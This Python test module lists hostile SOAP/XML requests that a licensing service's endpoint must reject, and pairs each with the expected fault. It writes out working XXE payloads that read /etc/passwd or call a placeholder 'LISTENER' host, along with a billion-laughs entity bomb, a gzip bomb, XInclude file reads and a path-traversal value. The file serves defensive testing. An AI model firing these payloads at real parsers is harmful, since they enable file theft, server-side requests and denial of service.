"""Requests that the SOAP face must refuse, each with the type of its refusal."""

import gzip
import json
from collections.abc import Callable
from dataclasses import dataclass, field

from integrations.contracts.names import by_id
from integrations.entrypoints.soap.envelope import Version
from tests.integrations.face import submission
from tests.integrations.soap.soap_client import SOAP_11, SOAP_12, asked, content_type, enveloped
from tests.integrations.soap.soap_town import MOST_MESSAGE

SUBMIT = by_id()["submit"]
WANTED = asked("submit", {"idempotencyKey": "attack"}, json.dumps(submission()).encode())
XSI = "http://www.w3.org/2001/XMLSchema-instance"
XI, XOP = "http://www.w3.org/2001/XInclude", "http://www.w3.org/2004/08/xop/include"
TYPES = {
    "action-mismatch": "InvalidInput",
    "invalid-input": "InvalidInput",
    "malformed": "Malformed",
    "not-authenticated": "NotAuthenticated",
    "not-understood": "InvalidInput",
    "too-large": "TooLarge",
    "unknown-operation": "InvalidInput",
    "unsupported-coding": "Malformed",
    "unsupported-media-type": "UnsupportedMediaType",
    "version-mismatch": "InvalidInput",
}


@dataclass(frozen=True)
class Attack:
    """A request that must be refused.

    Args:
        make: its octets, for a version of SOAP.
        type: of the problem.
        headers: instead of those that a client of the version sends.
        code: of the fault.
    """

    make: Callable[[Version], bytes]
    type: str = "malformed"
    headers: Callable[[Version], dict[str, str]] = field(
        default=lambda version: content_type(version, SUBMIT)
    )
    code: str = ""


def _before(prolog: str, encoding: str = "utf-8") -> Callable[[Version], bytes]:
    def make(version: Version) -> bytes:
        message = enveloped(WANTED.replace("<text>", "<text>&x;") if "ENTITY" in prolog else WANTED, version)
        plain = message.decode().partition("?>")[2]
        return f'<?xml version="1.0" encoding="{encoding}"?>{prolog}{plain}'.encode(encoding)

    return make


def _around(before: str = "", after: str = "", declared: str = "") -> Callable[[Version], bytes]:
    return lambda version: enveloped(before + WANTED + after, version, declared=declared)


def _inside(addition: str) -> Callable[[Version], bytes]:
    return lambda version: enveloped(WANTED.replace("<service>", f"{addition}<service>", 1), version)


def _attributes(count: int) -> Callable[[Version], bytes]:
    return _inside("<a " + " ".join(f'a{n}="1"' for n in range(count)) + "/>")


def _header(block: str) -> Callable[[Version], bytes]:
    return lambda version: enveloped(WANTED, version, header=block.replace("soap:actor", _actor(version)))


def _plain(version: Version) -> bytes:
    return enveloped(WANTED, version).partition(b"?>")[2].strip()


def _actor(version: Version) -> str:
    return f"soap:{version.value.actor}"


def _with(**changes: str) -> Callable[[Version], dict[str, str]]:
    named = {name.replace("_", "-"): value for name, value in changes.items()}
    return lambda version: {**content_type(version, SUBMIT), **named}


def _lol() -> str:
    steps = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE a [<!ENTITY x0 "lol">{steps}<!ENTITY x "&x9;">]>'


def _other(version: Version) -> Version:
    return SOAP_12 if version is SOAP_11 else SOAP_11


def _said_as_other(version: Version) -> bytes:
    return enveloped(WANTED, _other(version))


def _gzipped(octets: bytes) -> Callable[[Version], bytes]:
    return lambda _version: gzip.compress(octets, 6)


def _deep(version: Version) -> bytes:
    return enveloped("<a>" * 100_000 + "</a>" * 100_000, version)


def _deep_field(version: Version) -> bytes:
    nested = (
        '<list xmlns="urn:rakeeza:licensing:1">' + "<item><list>" * 60 + "</list></item>" * 60 + "</list>"
    )
    return enveloped(WANTED.replace("</form>", f'<field name="deep">{nested}</field></form>'), version)


ONE = "<soap:Body><a/></soap:Body>"
MU = '<t:To xmlns:t="urn:t" soap:mustUnderstand="1">x</t:To>'
ATTACKS: dict[str, Attack] = {
    "a document type alone": Attack(_before("<!DOCTYPE soap>")),
    "a document type in UTF-16": Attack(
        _before("<!DOCTYPE soap>", "utf-16"), headers=_with(Content_Type="text/xml; charset=utf-16")
    ),
    "an internal entity": Attack(_before('<!DOCTYPE a [<!ENTITY x "x">]>')),
    "an external entity": Attack(_before('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    "an entity over the network": Attack(_before('<!DOCTYPE a [<!ENTITY x SYSTEM "http://LISTENER/x">]>')),
    "a parameter entity": Attack(
        _before('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://LISTENER/p"> %p;<!ENTITY x "x">]>')
    ),
    "an external document type": Attack(_before('<!DOCTYPE a SYSTEM "http://LISTENER/a.dtd">')),
    "an entity bomb": Attack(_before(_lol())),
    "a quadratic bomb": Attack(_before(f'<!DOCTYPE a [<!ENTITY x "{"x" * 100_000}">]>')),
    "an unknown entity": Attack(lambda version: enveloped(WANTED.replace("<text>", "<text>&x;"), version)),
    "an instruction": Attack(_inside("<?php x?>")),
    "an instruction before": Attack(_before('<?xml-stylesheet href="http://LISTENER/a.xsl"?>')),
    "an XInclude": Attack(
        _inside(f'<i:include xmlns:i="{XI}" href="file:///etc/passwd" parse="text"/>'), "invalid-input"
    ),
    "an XInclude in a text": Attack(
        lambda version: enveloped(
            WANTED.replace("<text>", f'<text><i:include xmlns:i="{XI}" href="http://LISTENER/i"/>'), version
        ),
        "invalid-input",
    ),
    "nesting of 100,000": Attack(_deep, "too-large"),
    "nesting where the contract allows any": Attack(_deep_field, "too-large"),
    "a huge attribute": Attack(
        lambda version: enveloped(WANTED, version, declared=f' a="{"x" * 500_000}"'), "too-large"
    ),
    "a thousand namespaces": Attack(
        _around(declared="".join(f' xmlns:n{n}="urn:{n}"' for n in range(1_000))), "too-large"
    ),
    "a thousand attributes": Attack(_attributes(1_000), "invalid-input"),
    "more attributes than anybody needs": Attack(_attributes(30_000), "too-large"),
    "more tags than anybody needs": Attack(_inside("<a/>" * 120_000), "too-large"),
    "a huge text": Attack(
        lambda version: enveloped(WANTED.replace("</service>", f"{'x' * 900_000}</service>", 1), version),
        "invalid-input",
    ),
    "text between elements": Attack(_inside("x"), "invalid-input"),
    "an encrypted element": Attack(
        _inside('<e:EncryptedData xmlns:e="http://www.w3.org/2001/04/xmlenc#"/>'), "invalid-input"
    ),
    "an encrypted Body": Attack(
        lambda version: enveloped('<e:EncryptedData xmlns:e="http://www.w3.org/2001/04/xmlenc#"/>', version),
        "unknown-operation",
    ),
    "a nil where none may be": Attack(
        lambda version: enveloped(
            WANTED.replace("<Submit ", f'<Submit xmlns:x="{XSI}" x:nil="true" ', 1), version
        ),
        "invalid-input",
    ),
    "the type of another operation": Attack(
        lambda version: enveloped(
            WANTED.replace("<Submit ", f'<Submit xmlns:x="{XSI}" x:type="TakeAction" ', 1), version
        ),
        "invalid-input",
    ),
    "an encoding style": Attack(
        lambda version: enveloped(
            WANTED.replace("<Submit ", '<Submit soap:encodingStyle="urn:x" ', 1), version
        ),
        "invalid-input",
    ),
    "no namespace": Attack(
        lambda version: enveloped(WANTED.replace(' xmlns="urn:rakeeza:licensing:1"', ""), version),
        "unknown-operation",
    ),
    "addressing that must be understood": Attack(
        _header('<a:To xmlns:a="http://www.w3.org/2005/08/addressing" soap:mustUnderstand="1">urn:x</a:To>'),
        "not-understood",
        code="MustUnderstand",
    ),
    "a huge name": Attack(_inside(f"<{'n' * 500_000}/>"), "too-large"),
    "more than a megabyte": Attack(_around(after=" " * MOST_MESSAGE), "too-large"),
    "two Bodies": Attack(lambda version: enveloped(f"{WANTED}</soap:Body><soap:Body><a/>", version)),
    "two Bodies of one operation": Attack(
        lambda version: enveloped(f"{WANTED}</soap:Body><soap:Body>{WANTED}", version)
    ),
    "a Body in the Header": Attack(
        lambda version: enveloped("", version, header=f"<soap:Body>{WANTED}</soap:Body>")
    ),
    "a Body of the other version": Attack(
        lambda version: enveloped(
            f'</soap:Body><o:Body xmlns:o="{_other(version).value.namespace}">{WANTED}</o:Body><soap:Body>',
            version,
        )
    ),
    "an empty Body": Attack(lambda version: enveloped("", version)),
    "two operations in one Body": Attack(_around(after=WANTED)),
    "text in the Body": Attack(_around(before="x")),
    "an element behind the Body": Attack(_around(after="</soap:Body><a/><soap:Body>")),
    "an envelope in an envelope": Attack(
        lambda version: enveloped(enveloped(WANTED, version).decode().partition("?>")[2], version),
        "unknown-operation",
    ),
    "no operation of ours": Attack(lambda version: enveloped("<Submit/>", version), "unknown-operation"),
    "an answer of ours": Attack(
        lambda version: enveloped('<SubmitResponse xmlns="urn:rakeeza:licensing:1"/>', version),
        "unknown-operation",
    ),
    "no envelope": Attack(lambda _version: WANTED.encode(), "version-mismatch", code="VersionMismatch"),
    "an unknown version": Attack(
        lambda version: enveloped(WANTED, version).replace(version.value.namespace.encode(), b"urn:soap-2"),
        "version-mismatch",
        code="VersionMismatch",
    ),
    "the version of the other type": Attack(_said_as_other, "version-mismatch", code="VersionMismatch"),
    "a header that must be understood": Attack(_header(MU), "not-understood", code="MustUnderstand"),
    "one that is for the next": Attack(
        lambda version: enveloped(
            WANTED,
            version,
            header=MU.replace(
                "soap:must",
                f'{_actor(version)}="'
                + (
                    "http://schemas.xmlsoap.org/soap/actor/next"
                    if version is SOAP_11
                    else "http://www.w3.org/2003/05/soap-envelope/role/next"
                )
                + '" soap:must',
            ),
        ),
        "not-understood",
        code="MustUnderstand",
    ),
    "mustUnderstand that is neither": Attack(_header(MU.replace('"1"', '"yes"'))),
    "another SOAPAction": Attack(
        _around(), "action-mismatch", lambda version: content_type(version, by_id()["list_cases"])
    ),
    "a SOAPAction beside the type": Attack(_around(), "action-mismatch", _with(SOAPAction='"urn:other"')),
    "a charset that is wrong": Attack(
        _around(), headers=lambda version: {"Content-Type": f"{version.value.media_type}; charset=utf-16"}
    ),
    "windows-1256": Attack(
        lambda version: enveloped(WANTED, version).decode().encode("windows-1256", "replace"),
        headers=lambda version: {"Content-Type": f"{version.value.media_type}; charset=windows-1256"},
    ),
    "UTF-7": Attack(
        lambda version: b'<?xml version="1.0" encoding="UTF-7"?>' + _plain(version),
        headers=lambda version: {"Content-Type": version.value.media_type},
    ),
    "UTF-16 without a mark": Attack(
        lambda version: _plain(version).decode().encode("utf-16-le"),
        headers=lambda version: {"Content-Type": version.value.media_type},
    ),
    "UTF-8 behind the mark of UTF-16": Attack(lambda version: b"\xff\xfe" + _plain(version)),
    "a mark of UTF-8 and another charset": Attack(
        lambda version: b"\xef\xbb\xbf" + _plain(version),
        headers=lambda version: {"Content-Type": f"{version.value.media_type}; charset=utf-16"},
    ),
    "UTF-32": Attack(
        lambda version: _plain(version).decode().encode("utf-32"),
        headers=lambda version: {"Content-Type": version.value.media_type},
    ),
    "EBCDIC": Attack(
        lambda version: _plain(version).decode().encode("cp500", "replace"),
        headers=lambda version: {"Content-Type": version.value.media_type},
    ),
    "XML 1.1": Attack(lambda version: b'<?xml version="1.1"?>' + _plain(version)),
    "a null character": Attack(lambda version: enveloped(WANTED, version).replace(b"<text>", b"<text>&#0;")),
    "octets that are no UTF-8": Attack(
        lambda version: enveloped(WANTED, version).replace(b"<text>", b"<text>\xff")
    ),
    "no XML": Attack(lambda _version: b'{"service": "shop_licence"}'),
    "nothing": Attack(lambda _version: b""),
    "a gzip bomb": Attack(_gzipped(b"<a>" + b" " * 200_000_000), "too-large", _with(Content_Encoding="gzip")),
    "gzip that breaks off": Attack(
        lambda version: gzip.compress(enveloped(WANTED, version))[:-9], headers=_with(Content_Encoding="gzip")
    ),
    "gzip with more behind": Attack(
        lambda version: gzip.compress(enveloped(WANTED, version)) * 2, headers=_with(Content_Encoding="gzip")
    ),
    "no gzip": Attack(_around(), headers=_with(Content_Encoding="gzip")),
    "gzip in gzip": Attack(
        lambda version: gzip.compress(gzip.compress(enveloped(WANTED, version))),
        "unsupported-coding",
        _with(Content_Encoding="gzip, gzip"),
    ),
    "gzip in gzip, said once": Attack(
        lambda version: gzip.compress(gzip.compress(enveloped(WANTED, version))),
        headers=_with(Content_Encoding="gzip"),
    ),
    "another coding": Attack(_around(), "unsupported-coding", _with(Content_Encoding="br")),
    "a schema from elsewhere": Attack(
        lambda version: enveloped(
            WANTED.replace(
                "<Submit ", '<Submit xsi:schemaLocation="urn:rakeeza:licensing:1 http://LISTENER/a.xsd" ', 1
            ).replace("<service>", "<more/><service>"),
            version,
        ),
        "invalid-input",
    ),
    "a type of the sender's choice": Attack(
        lambda version: enveloped(
            WANTED.replace(
                "<service>", '<service xmlns:x="http://www.w3.org/2001/XMLSchema" xsi:type="x:int">'
            ),
            version,
        ),
        "invalid-input",
    ),
    "a field too many": Attack(_inside("<roles>administrator</roles>"), "invalid-input"),
    "a field twice": Attack(_inside("<service>shop_licence</service>"), "invalid-input"),
    "a path in a number": Attack(
        lambda version: enveloped(
            asked("take_action", {"number": "../../v1/oauth/token", "action": "x", "idempotencyKey": "k"}),
            version,
        ),
        "invalid-input",
        lambda version: content_type(version, by_id()["take_action"]),
    ),
    "an include without a package": Attack(
        lambda version: enveloped(
            asked(
                "put_document", {"number": "SC-1", "code": "lease", "name": "a", "idempotencyKey": "k"}, b"x"
            ).replace("eA==", f'<x:Include xmlns:x="{XOP}" href="cid:d"/>'),
            version,
        ),
        "invalid-input",
        lambda version: content_type(version, by_id()["put_document"]),
    ),
}
